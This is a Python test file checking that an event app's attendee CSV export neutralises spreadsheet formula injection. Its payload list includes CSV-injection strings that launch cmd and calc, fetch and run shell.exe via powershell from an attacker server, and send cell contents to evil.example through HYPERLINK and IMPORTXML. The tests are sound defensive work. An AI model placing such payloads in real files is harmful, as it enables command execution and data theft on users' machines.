"""Attendees as CSV: what is in it, and that no spreadsheet takes any of it for a formula."""

import csv
import io
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from rapport.queries.attendees.csv_cells import harmless, plain
from tests.testing.harmless import cells_however_read, is_formula
from tests.testing.routes import assert_problem
from tests.testing.world import World

NAMES = [
    *("id", "contact_id", "name", "email", "status", "attendance", "signed_up_at", "checked_in_at", "answers"),
    *(
        "looking_for",
        "can_offer",
        "visible",
        "follow_up_consent",
        "introduce",
        "keep_in_touch",
        "owner_confirmed_at",
        "timezone",
        "language",
    ),
]


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def header(text: str) -> list[str]:
    return next(csv.reader(io.StringIO(text, newline="")))


def exported(world: World, event: str, **query: object) -> str:
    return world.call("GET", f"{event}/attendees.csv", query=query).body


def question(id: str, label: str, **more: Any) -> dict[str, Any]:
    return {"id": id, "label": label, **more}


def test_it_has_each_field_and_then_a_column_for_each_question(world: World) -> None:
    asked = [
        question("diet", "What do you eat?"),
        question("when", "Which?", kind="choices", options=["Mon", "Tue"]),
    ]
    event = world.event(questions=[*asked, question("kids", "Any children?", kind="yes_no")])
    said: dict[str, Any] = {"answers": {"diet": "ｖegan, “Ü”", "when": ["Mon", "Tue"], "kids": True}}
    world.sign_up(event, **said, can_offer=["a room", "time"], timezone="Europe/Paris", language="fr")
    world.ask("POST", f"/public/v1/signups/{world.mails('ada')[0].token}/confirm")
    text = exported(world, event)
    assert header(text) == [*NAMES, "What do you eat?", "Which?", "Any children?"]
    (ada,) = rows(text)
    shown = world.attendee(event)
    assert {name: ada[name] for name in ("id", "name", "email", "status", "signed_up_at", "timezone", "language")} == {
        name: shown[name] for name in ("id", "name", "email", "status", "signed_up_at", "timezone", "language")
    }
    assert (ada["What do you eat?"], ada["Which?"], ada["Any children?"]) == ("ｖegan, “Ü”", "Mon; Tue", "true")
    assert (ada["can_offer"], ada["visible"], ada["attendance"]) == ("a room; time", "false", "")
    assert ada.keys() - {"What do you eat?", "Which?", "Any children?"} == shown.keys()


def test_columns_of_one_name_are_told_apart(world: World) -> None:
    labels = {"a": "Diet", "b": "diet?", "c": "E-Mail", "d": "name", "e": "Diet (f)", "f": "Diet", "g": "?", "h": "!"}
    event = world.event(questions=[question(id, label) for id, label in labels.items()])
    assert header(exported(world, event))[len(NAMES) :] == [
        "Diet",
        "diet? (b)",
        "E-Mail (c)",
        "name (d)",
        "Diet (f)",
        "Diet (f) (f)",
        "?",
        "! (h)",
    ]


def test_a_byte_order_mark_is_there_where_it_is_asked_for(world: World) -> None:
    event = world.event()
    assert exported(world, event, bom="true") == "\ufeff" + exported(world, event)
    assert_problem(world.call("GET", f"{event}/attendees.csv", query={"bom": "perhaps"}), 422)


def test_it_takes_the_filters_of_the_list(world: World) -> None:
    event = world.event(capacity=2)
    for who in ("cleo", "ben", "ada"):
        world.sign_up(event, who)
    world.act(event, "ben", "check-in")
    for query in ({"status": "waitlisted"}, {"q": "cleo"}, {"attendance": "attended"}, {"sort": "name"}, {}):
        listed = [one["email"] for one in world.items(f"{event}/attendees", **query)]
        assert [row["email"] for row in rows(exported(world, event, **query))] == listed


# From OWASP's page on CSV injection, PayloadsAllTheThings and bug reports.
PAYLOADS = [
    "=1+1",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
    '=HYPERLINK("https://evil.example?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("https://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
    "+1+1",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "-2+3+cmd|' /C calc'!D2",
    "\n-3+3+cmd|' /C calc'!D2",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tcmd",
    "\rcmd",
    "   =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "−1",
    "x;=1+1;y",
    "x; =1+1",
    "x;\u200b＝1+1",
    "x;\ty",
    "x\t=1+1",
    "x\r\n=1+1",
    'x";=1+1;"',
    ";=1+1",
    ";;@A1",
    "'=1+1",
    "' =1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_is_a_formula(world: World, payload: str) -> None:
    typed = payload.strip("\r\n\t").replace("\r\n", " ").replace("\t", " ")
    event = world.event(questions=[question("why", typed), question("how", "How?")])
    world.sign_up(event, name=typed, answers={"how": payload}, can_offer=[typed, typed])
    world.ask("POST", f"/public/v1/signups/{world.mails('ada')[0].token}/confirm")
    text = exported(world, event)
    assert rows(text)[0]["How?"] != payload or payload.startswith("x")
    assert not [cell for cell in cells_however_read(text) if is_formula(cell)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_marked_and_comes_back_as_it_was(payload: str) -> None:
    assert "'" in harmless(payload)
    assert not is_formula(harmless(payload))
    assert plain(harmless(payload)) == payload


@given(st.text(st.sampled_from("=+-@＝a1;'\"\t\r\n \u200b\u3000,|!")))
@example("\n\n=1")
def test_whatever_is_typed_is_harmless_and_comes_back_as_it_was(typed: str) -> None:
    marked = harmless(typed)
    assert plain(marked) == typed
    out = io.StringIO()
    csv.writer(out).writerow([marked])
    assert not [cell for cell in cells_however_read(out.getvalue()) if is_formula(cell)]


@pytest.mark.parametrize("text", ["Ada", "1-2", "ada@example.org", "a; b", "Mon; Tue", "it's", "x = y", "a\r\n\r\nb"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_a_long_cell_is_looked_through_quickly() -> None:
    for char in (" ", "\n", ";", "\t", "'"):
        harmless(char * 200_000)
